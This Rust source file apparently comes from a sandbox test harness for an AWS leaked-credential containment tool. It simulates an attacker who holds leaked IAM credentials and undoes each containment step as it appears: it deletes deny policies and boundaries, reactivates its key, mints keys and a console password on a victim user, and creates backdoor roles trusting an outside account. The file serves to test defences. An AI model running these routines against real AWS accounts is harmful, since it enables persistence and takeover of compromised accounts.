//! The racing holder (issue 27): someone holding the leaked credentials who polls what IAM shows
//! about its own principal and undoes containment the moment it appears. Reads show a write at
//! once while authorization follows seconds later (AWS-FACTS §6, §16), so in that window its
//! counter-moves succeed: it deletes the deny, reactivates its key and mints credentials
//! elsewhere, again after every re-apply. It keeps everything it minted and, when the full
//! report goes out, tries each credential once.

use std::cell::RefCell;
use std::time::{Duration, Instant};

use aws_sdk_iam::types::StatusType;
use serde::Serialize;
use serde_json::json;

use super::{Creds, Sandbox, code_of};

mod view;

pub use view::View;
use view::read_view;

/// Whose credentials leaked.
#[derive(Clone, Debug)]
pub enum Holder {
    /// An IAM user's access key.
    User(String),
    /// A session of this role.
    Role(String),
}

/// What the holder races with and against.
#[derive(Clone, Debug)]
pub struct RacePlan {
    pub leaked: Creds,
    pub holder: Holder,
    /// Another user the holder can reach: it mints a key and sets a console password there.
    pub victim_user: String,
    /// An existing role the holder may assume.
    pub pivot_role_arn: String,
    /// Roles it creates are named `{prefix}-{n}` (every sighting makes a new one).
    pub backdoor_role_prefix: String,
    /// The account the backdoor roles trust.
    pub outside_account: String,
    pub interval: Duration,
    pub duration: Duration,
}

/// One call the holder made, timed from the trigger's delivery.
#[derive(Clone, Debug, Serialize)]
pub struct RaceCall {
    pub at_ms: u64,
    pub action: String,
    /// `ok`, or the error code.
    pub result: String,
}

/// One credential the holder had when the full report went out, and whether it still worked.
#[derive(Clone, Debug, Serialize)]
pub struct Held {
    /// What it is: the leaked key, a key it minted on a user, a session of a role.
    pub credential: String,
    pub access_key_id: String,
    pub works: bool,
    /// `ok`, or the error code of the one harmless call it was tried with.
    pub answer: String,
}

/// What the race came to.
#[derive(Clone, Debug, Default, Serialize)]
pub struct RaceSummary {
    /// Polls in which the holder saw containment it had not answered yet.
    pub sightings: u32,
    pub calls_ok: u32,
    pub calls_refused: u32,
    /// The holder's last accepted call, from the trigger's delivery.
    pub last_ok_ms: Option<u64>,
    /// Its first accepted undoing of containment (a deny, boundary or tag removed, its key
    /// reactivated).
    pub first_revert_ms: Option<u64>,
    /// When its credentials were tried (the full report had just gone out).
    pub probed_at_ms: Option<u64>,
    /// Every credential it held then: the leaked one, each key and session it minted.
    pub held: Vec<Held>,
    /// Roles it created trusting the outside account (no credential of their own here).
    pub backdoor_roles: Vec<String>,
    /// Users it set a console password on (not tried: a password is not an API credential).
    pub login_profiles: Vec<String>,
    pub log: Vec<RaceCall>,
}

impl RaceSummary {
    /// The credentials that still worked when the full report went out.
    pub fn still_working(&self) -> Vec<&Held> {
        self.held.iter().filter(|h| h.works).collect()
    }
}

/// A race under way: its clock, its log and what it minted (shared by the poller and the
/// report-time probe, which run in one task).
struct Race<'a> {
    sandbox: &'a Sandbox,
    plan: &'a RacePlan,
    iam: aws_sdk_iam::Client,
    t0: Instant,
    log: RefCell<Vec<RaceCall>>,
    minted: RefCell<Vec<(String, Creds)>>,
    backdoors: RefCell<Vec<String>>,
    login_profiles: RefCell<Vec<String>>,
    first_revert_ms: RefCell<Option<u64>>,
}

impl Sandbox {
    /// What IAM shows about the holder's principal, read with the leaked credentials (taken
    /// before the trigger: the race undoes whatever appears on top of it).
    pub async fn holder_view(&self, plan: &RacePlan) -> Result<View, String> {
        let iam = aws_sdk_iam::Client::new(&self.as_holder(&plan.leaked));
        read_view(&iam, plan, &mut |_, _| {}).await
    }

    /// Races containment for `plan.duration` from `t0` (the trigger's delivery), polling every
    /// `plan.interval`; tries every credential it holds once `report_sent` fires (or its
    /// sender is dropped).
    pub async fn race(
        &self,
        plan: &RacePlan,
        baseline: &View,
        t0: Instant,
        report_sent: tokio::sync::oneshot::Receiver<()>,
    ) -> RaceSummary {
        let race = Race {
            sandbox: self,
            plan,
            iam: aws_sdk_iam::Client::new(&self.as_holder(&plan.leaked)),
            t0,
            log: RefCell::default(),
            minted: RefCell::default(),
            backdoors: RefCell::default(),
            login_profiles: RefCell::default(),
            first_revert_ms: RefCell::default(),
        };
        let (sightings, (probed_at_ms, held)) = tokio::join!(race.poll(baseline), async {
            let _ = report_sent.await;
            race.probe().await
        });
        race.summary(sightings, probed_at_ms, held)
    }
}

impl Race<'_> {
    fn ms(&self) -> u64 {
        u64::try_from(self.t0.elapsed().as_millis()).unwrap_or(u64::MAX)
    }

    fn record(&self, action: &str, result: &Result<(), String>) {
        let entry = RaceCall {
            at_ms: self.ms(),
            action: action.to_owned(),
            result: match result {
                Ok(()) => "ok".into(),
                Err(code) => code.clone(),
            },
        };
        self.log.borrow_mut().push(entry);
    }

    /// A counter-move that undoes containment: its first success is the first revert.
    fn revert(&self, action: &str, result: Result<(), String>) -> bool {
        self.record(action, &result);
        let ok = result.is_ok();
        if ok {
            self.first_revert_ms.borrow_mut().get_or_insert(self.ms());
        }
        ok
    }

    /// Polls until the race's end; the number of sightings answered.
    async fn poll(&self, baseline: &View) -> u32 {
        let mut sightings = 0;
        // The containment answered last, and whether that answer undid anything.
        let mut answered: Option<(View, bool)> = None;
        let mut tick = 0u32;
        while self.t0.elapsed() < self.plan.duration {
            let seen = read_view(&self.iam, self.plan, &mut |a, r| self.record(a, r)).await;
            match seen.map(|v| v.minus(baseline)) {
                Ok(containment) if !containment.is_empty() => {
                    // The same containment after an answer that undid nothing is the same
                    // sighting; anything new, or anything left after an accepted undo, is a
                    // (re-)apply, answered again.
                    let same = answered
                        .as_ref()
                        .is_some_and(|(v, undid)| *v == containment && !undid);
                    if !same {
                        sightings += 1;
                        let undid = self.answer(&containment).await;
                        answered = Some((containment, undid));
                    }
                }
                Ok(_) => answered = None,
                Err(_) => {}
            }
            tick += 1;
            let next = self.plan.interval * tick;
            let now = self.t0.elapsed();
            if next > now {
                tokio::time::sleep(next - now).await;
            }
        }
        sightings
    }

    /// Every counter-move, once: undo what it sees, then mint. True when something was undone.
    async fn answer(&self, containment: &View) -> bool {
        let reverted = match &self.plan.holder {
            Holder::User(user) => self.undo_on_user(user, containment).await,
            Holder::Role(role) => self.undo_on_role(role, containment).await,
        };
        self.mint().await;
        reverted
    }

    async fn undo_on_user(&self, user: &str, c: &View) -> bool {
        let iam = &self.iam;
        let mut any = false;
        for name in &c.inline {
            let r = iam.delete_user_policy().user_name(user).policy_name(name);
            any |= self.revert(
                "iam:DeleteUserPolicy",
                r.send().await.map(drop).map_err(code),
            );
        }
        for arn in &c.attached {
            let r = iam.detach_user_policy().user_name(user).policy_arn(arn);
            any |= self.revert(
                "iam:DetachUserPolicy",
                r.send().await.map(drop).map_err(code),
            );
        }
        if c.boundary.is_some() {
            let r = iam.delete_user_permissions_boundary().user_name(user);
            any |= self.revert(
                "iam:DeleteUserPermissionsBoundary",
                r.send().await.map(drop).map_err(code),
            );
        }
        if !c.tags.is_empty() {
            let r = iam
                .untag_user()
                .user_name(user)
                .set_tag_keys(Some(c.tags.iter().cloned().collect()));
            any |= self.revert("iam:UntagUser", r.send().await.map(drop).map_err(code));
        }
        if c.key_off {
            let r = iam
                .update_access_key()
                .user_name(user)
                .access_key_id(&self.plan.leaked.access_key_id)
                .status(StatusType::Active);
            any |= self.revert(
                "iam:UpdateAccessKey",
                r.send().await.map(drop).map_err(code),
            );
        }
        any
    }

    async fn undo_on_role(&self, role: &str, c: &View) -> bool {
        let iam = &self.iam;
        let mut any = false;
        for name in &c.inline {
            let r = iam.delete_role_policy().role_name(role).policy_name(name);
            any |= self.revert(
                "iam:DeleteRolePolicy",
                r.send().await.map(drop).map_err(code),
            );
        }
        for arn in &c.attached {
            let r = iam.detach_role_policy().role_name(role).policy_arn(arn);
            any |= self.revert(
                "iam:DetachRolePolicy",
                r.send().await.map(drop).map_err(code),
            );
        }
        if c.boundary.is_some() {
            let r = iam.delete_role_permissions_boundary().role_name(role);
            any |= self.revert(
                "iam:DeleteRolePermissionsBoundary",
                r.send().await.map(drop).map_err(code),
            );
        }
        if !c.tags.is_empty() {
            let r = iam
                .untag_role()
                .role_name(role)
                .set_tag_keys(Some(c.tags.iter().cloned().collect()));
            any |= self.revert("iam:UntagRole", r.send().await.map(drop).map_err(code));
        }
        any
    }

    /// New footholds: a key on itself (a user), a key and a console password on the victim,
    /// a role trusting the outside account, a session of an existing role.
    async fn mint(&self) {
        if let Holder::User(user) = &self.plan.holder {
            self.mint_key(user, "its own").await;
        }
        let victim = &self.plan.victim_user;
        self.mint_key(victim, "another user").await;
        let password = format!("Racer-{}-Aa1!", self.ms());
        let r = self
            .iam
            .create_login_profile()
            .user_name(victim)
            .password(password)
            .send()
            .await
            .map(drop)
            .map_err(code);
        if r.is_ok() {
            self.login_profiles.borrow_mut().push(victim.clone());
        }
        self.record("iam:CreateLoginProfile", &r);
        self.create_backdoor_role().await;
        let assumed = self
            .sandbox
            .assume_role_as(&self.plan.leaked, &self.plan.pivot_role_arn, "racer", None)
            .await;
        self.record(
            "sts:AssumeRole",
            &assumed.as_ref().map(drop).map_err(Clone::clone),
        );
        if let Ok(c) = assumed {
            let label = format!(
                "session of role {}",
                last_segment(&self.plan.pivot_role_arn)
            );
            self.minted.borrow_mut().push((label, c));
        }
    }

    async fn mint_key(&self, user: &str, whose: &str) {
        let r = self.iam.create_access_key().user_name(user).send().await;
        self.record(
            "iam:CreateAccessKey",
            &r.as_ref().map(drop).map_err(code_of),
        );
        if let Some(k) = r.ok().and_then(|o| o.access_key) {
            let label = format!("key {} on {whose}, user {user}", k.access_key_id);
            let creds = Creds::new(k.access_key_id, k.secret_access_key, None);
            self.minted.borrow_mut().push((label, creds));
        }
    }

    async fn create_backdoor_role(&self) {
        let name = format!(
            "{}-{}",
            self.plan.backdoor_role_prefix,
            self.backdoors.borrow().len() + 1
        );
        let trust = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow",
            "Principal": {"AWS": format!("arn:aws:iam::{}:root", self.plan.outside_account)},
            "Action": "sts:AssumeRole"}]});
        let r = self
            .iam
            .create_role()
            .role_name(&name)
            .assume_role_policy_document(trust.to_string())
            .send()
            .await
            .map(drop)
            .map_err(code);
        if r.is_ok() {
            self.backdoors.borrow_mut().push(name);
        }
        self.record("iam:CreateRole", &r);
    }

    /// One harmless call with every credential held: `iam:ListUsers`, which each principal's
    /// own policy allows (`sts:GetCallerIdentity` would prove nothing: it is never denied).
    async fn probe(&self) -> (u64, Vec<Held>) {
        let at = self.ms();
        let leaked = match self.plan.holder {
            Holder::User(_) => "leaked key",
            Holder::Role(_) => "leaked session",
        };
        let mut all = vec![(leaked.to_owned(), self.plan.leaked.clone())];
        all.extend(self.minted.borrow().iter().cloned());
        let mut held = Vec::new();
        for (credential, creds) in all {
            let iam = aws_sdk_iam::Client::new(&self.sandbox.as_holder(&creds));
            let answer = iam.list_users().send().await.map(drop).map_err(code);
            held.push(Held {
                credential,
                access_key_id: creds.access_key_id.clone(),
                works: answer.is_ok(),
                answer: answer.err().unwrap_or_else(|| "ok".into()),
            });
        }
        (at, held)
    }

    fn summary(self, sightings: u32, probed_at_ms: u64, held: Vec<Held>) -> RaceSummary {
        let log = self.log.into_inner();
        let ok = |c: &&RaceCall| c.result == "ok";
        RaceSummary {
            sightings,
            calls_ok: u32::try_from(log.iter().filter(ok).count()).unwrap_or(u32::MAX),
            calls_refused: u32::try_from(log.iter().filter(|c| !ok(c)).count()).unwrap_or(u32::MAX),
            last_ok_ms: log.iter().filter(ok).map(|c| c.at_ms).max(),
            first_revert_ms: self.first_revert_ms.into_inner(),
            probed_at_ms: Some(probed_at_ms),
            held,
            backdoor_roles: self.backdoors.into_inner(),
            login_profiles: self.login_profiles.into_inner(),
            log,
        }
    }
}

fn code<E: aws_sdk_iam::error::ProvideErrorMetadata + std::fmt::Debug>(e: E) -> String {
    code_of(&e)
}

fn last_segment(arn: &str) -> &str {
    arn.rsplit('/').next().unwrap_or(arn)
}
